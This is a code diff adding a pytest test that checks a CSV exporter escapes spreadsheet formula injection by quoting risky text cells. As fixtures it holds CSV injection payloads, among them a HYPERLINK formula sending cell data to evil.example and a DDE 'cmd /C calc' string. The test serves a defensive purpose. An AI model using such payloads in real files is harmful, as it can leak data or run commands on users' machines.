@@ -342,6 +342,80 @@ def test_export_from_a_bucket_equals_the_local_export(tmp_path: Path, moto) -> N
     assert remote.read_bytes() == local.read_bytes() and len(pd.read_csv(local)) == 6 + 6 + 4
 
 
+#: Texts a spreadsheet runs as a formula (OWASP's CSV injection list), and some it does not.
+FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
+            "-", "-inf")
+NOT_FORMULAS = ("-3", "+0.5", "-1e-06", ".5", "plain", "1-2", "a=b", "")
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as file:
+        return list(csv.DictReader(file))
+
+
+@pytest.mark.slow
+def test_csv_text_a_spreadsheet_would_run_begins_with_a_quote_and_nothing_else_changes(tmp_path: Path) -> None:
+    """A prompt, an answer or a run's name beginning ``=``, ``+``, ``-``, ``@``, a tab or a CR
+    was written to the CSV as it was, so a spreadsheet opening the export ran it as a formula
+    (``=HYPERLINK`` sends a cell's data away). Such a text cell now begins with ``'`` (and so
+    does one that began with ``'``, so the value is always the cell less one ``'``); a plain
+    number (``-3``) stays as it is, numbers are no text, and ``--csv-raw`` writes every text
+    as it is. Read back, the table is the JSONL export's, value for value."""
+    texts = [*FORMULAS, *NOT_FORMULAS, "'already quoted", "''twice"]
+    writer = SegmentWriter.create(tmp_path / "run", "formulas")
+    writer.append("manifest", manifest_for("formulas", name="=cmd|' /C calc'!A0"))
+    for n, text in enumerate(texts):
+        trace = {"task": {"data": {"idx": n, "prompt": text, "answer": text}}, "agent": {"trainable": True},
+                 "rewards": {"correct": {"score": -0.5, "weight": 1.0}},
+                 "nodes": [{"message": {"role": "user", "content": text}},
+                           {"parent": 0, "message": {"role": "assistant", "content": text}}]}
+        writer.append("episode", {"id": f"e{n}", "ok": True, "traces": [trace]},
+                      {"episode_id": f"e{n}", "rollout_number": 1})
+    writer.seal("completed")
+    tables = {}
+    for name, args in (("safe", ()), ("raw", ("--csv-raw",))):
+        for runs in ((), ("--runs",)):
+            out = tmp_path / f"{name}{len(runs)}.csv"
+            result = export(str(tmp_path / "run"), *args, *runs, "-o", str(out))
+            assert result.returncode == 0, result.stderr
+            tables[name, bool(runs)] = _csv_rows(out)
+    for runs in ((), ("--runs",)):
+        out = tmp_path / f"truth{len(runs)}.jsonl"
+        assert export(str(tmp_path / "run"), *runs, "-o", str(out)).returncode == 0
+        truth = [json.loads(line) for line in out.read_text().splitlines()]
+        as_csv = [{k: "" if v is None else "true" if v is True else "false" if v is False else str(v)
+                   for k, v in row.items()} for row in truth]
+        raw, safe = tables["raw", bool(runs)], tables["safe", bool(runs)]
+        assert raw == as_csv  # --csv-raw: every value as it is
+        assert [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in safe] == as_csv
+        for safe_row, row in zip(safe, truth):
+            for key, value in row.items():
+                cell = safe_row[key]
+                if isinstance(value, str) and value.startswith((*"=+@\t\r'", "-")) and value not in NOT_FORMULAS:
+                    assert cell == "'" + value, (key, value, cell)
+                else:
+                    assert cell == as_csv[truth.index(row)][key], (key, value, cell)
+                assert not cell.startswith(tuple("=+-@\t\r")) or cell in NOT_FORMULAS or (
+                    isinstance(value, (int, float))), (key, cell)  # what a spreadsheet reads as a number
+    assert tables["safe", True][0]["run_name"] == "'=cmd|' /C calc'!A0"
+    samples = {row["episode_id"]: row for row in tables["safe", False]}
+    for n, text in enumerate(texts):
+        row = samples[f"e{n}"]
+        want = "'" + text if text in FORMULAS or text.startswith("'") else text
+        assert (row["prompt"], row["final_answer"], row["reference_answer"]) == (want, want, want), row
+    # a program reading the numbers reads the same as from the JSONL: nothing numeric changed
+    csv_numbers = duckdb.sql(f"SELECT episode_id, reward, \"metric:correct\" FROM read_csv('{tmp_path / 'safe0.csv'}') "
+                             "ORDER BY episode_id").fetchall()
+    json_numbers = duckdb.sql(f"SELECT episode_id, reward, \"metric:correct\" FROM "
+                              f"read_json('{tmp_path / 'truth0.jsonl'}') ORDER BY episode_id").fetchall()
+    assert csv_numbers == json_numbers and {reward for _, reward, _ in csv_numbers} == {-0.5}
+    refused = export(str(tmp_path / "run"), "--csv-raw", "-o", str(tmp_path / "t.jsonl"))
+    assert (refused.returncode, refused.stderr.count("\n")) == (2, 1) and "--csv-raw" in refused.stderr, refused.stderr
+    assert not (tmp_path / "t.jsonl").exists()
+
+
 METRIC_NAMES = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
 VALUES = st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True), st.integers(-10**6, 10**6))
 TEXTS = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)
@@ -375,8 +449,9 @@ def test_any_metric_names_values_and_texts_read_back_the_same_in_every_format(tm
         assert (report.rows, report.problems) == (len(episodes), [])
         if fmt == "parquet":
             frame = pd.read_parquet(out)
-        elif fmt == "csv":
-            frame = pd.read_csv(out, dtype=str, keep_default_na=False)
+        elif fmt == "csv":  # a text cell beginning with ' had one added (a spreadsheet runs no formula)
+            frame = pd.read_csv(out, dtype=str, keep_default_na=False).map(
+                lambda cell: cell[1:] if cell.startswith("'") else cell)
         else:
             frame = pd.DataFrame([json.loads(line) for line in out.read_bytes().split(b"\n")[:-1]])
         assert [c for c in frame.columns if c.startswith("metric:")] == [f"metric:{name}" for name in names]
